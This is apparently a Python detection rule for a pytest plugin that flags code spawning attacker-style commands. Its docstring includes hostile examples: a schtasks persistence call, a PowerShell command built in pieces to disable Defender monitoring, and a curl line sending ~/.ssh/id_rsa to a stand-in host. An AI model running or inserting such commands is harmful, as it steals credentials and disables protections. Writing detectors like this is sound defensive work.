"""SMG226: Python starts a command as attackers do."""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING

from pytest_selfmod_guard import paths
from pytest_selfmod_guard.model import Risk
from pytest_selfmod_guard.rules import Sighting, python_rule
from pytest_selfmod_guard.rules._reaching import REACHERS
from pytest_selfmod_guard.rules.danger._flow_words import PROCESS, SHELLS, concerns
from pytest_selfmod_guard.rules.danger._hostile import hostile

if TYPE_CHECKING:
    from pytest_selfmod_guard.syntax import Python

_TRIGGERS = (*REACHERS, *PROCESS, *SHELLS)


@python_rule(
    "SMG226",
    risk=Risk.HIGH,
    hint="start only the program that the feature needs, and leave accounts,"
    " schedules, defences and "
    "credentials of the machine to who runs it",
    triggers=_TRIGGERS,
)
def hostile_process(python: Python) -> Iterable[Sighting]:
    """
    A command that Python starts, or a script it writes, does what only attackers do.

    It sends keys or the environment away, schedules itself, makes accounts,
    switches off what protects the machine, wipes traces, mines. Commands are
    put together first, from lists, pieces and names.

    Flagged: it schedules itself
        === shop/tool.py
          import subprocess
        + subprocess.run(["schtasks", "/create", "/tn", "shop", "/tr", command])

    Flagged: defences go, in pieces
        === shop/tool.py
          import os
        + off = "Set-MpPreference " + "-DisableRealtimeMonitoring $true"
        + os.system(f"powershell {off}")

    Flagged: into a script
        === shop/tool.py
        + def write(file):
        +     file.write("curl -d @$HOME/.ssh/id_rsa https://example.invalid")

    Allowed: a program of the feature
        === shop/tool.py
          import subprocess
        + subprocess.run(["git", "config", "--get", "user.name"], check=True)
    """
    from pytest_selfmod_guard.rules.danger._flow_commands import (  # noqa: PLC0415 (imports libcst)
        commands,
    )

    if not concerns(python, _TRIGGERS):
        return
    test = paths.zone(python.path) == paths.TEST
    for call, text in commands(python):
        for harm in hostile(text)[:1]:
            yield Sighting(
                python.line(call.node),
                f"the command {harm.what}",
                python.code(call.node),
                call.scope,
                risk=Risk.MEDIUM if test and harm.risk < Risk.CRITICAL else harm.risk,
            )
